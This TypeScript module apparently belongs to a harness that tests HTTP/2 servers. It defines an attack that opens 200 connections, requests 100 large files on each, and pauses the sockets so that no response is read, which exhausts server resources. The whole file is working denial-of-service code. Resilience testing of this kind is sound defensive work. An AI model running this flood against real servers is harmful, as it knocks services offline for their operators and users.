/** Two hundred addresses with one connection each, which ask for a hundred large files and read none. */
import { flags, frame, frames, requestFields } from '../../../support/http2-frames.ts'
import type { Attack } from '../attack.ts'
import { untilClosed } from '../send.ts'
import { flood } from '../tally.ts'
import { authorityOf, openSession } from './sessions.ts'

const addresses = 200
const streams = 100
const stayMs = 10_000

export const unreadResponses: Attack = {
  name: 'HTTP/2 responses that nobody reads',
  prepare: (target) => (signal) =>
    flood({ atOnce: addresses, pauseMs: 1_000, signal }, async (index) => {
      const socket = await openSession(target, index, signal)
      socket.pause()
      const fields = requestFields({ authority: authorityOf(target, index), path: target.large.path })
      const end = flags.endStream | flags.endHeaders
      const requests = Array.from({ length: streams }, (_, at) =>
        frame(frames.headers, end, 2 * at + 1, fields),
      )
      socket.write(Buffer.concat(requests))
      await untilClosed(socket, stayMs, signal)
      const outcome = socket.destroyed ? 'ended' : 'left open'
      socket.destroy()
      return outcome
    }),
}
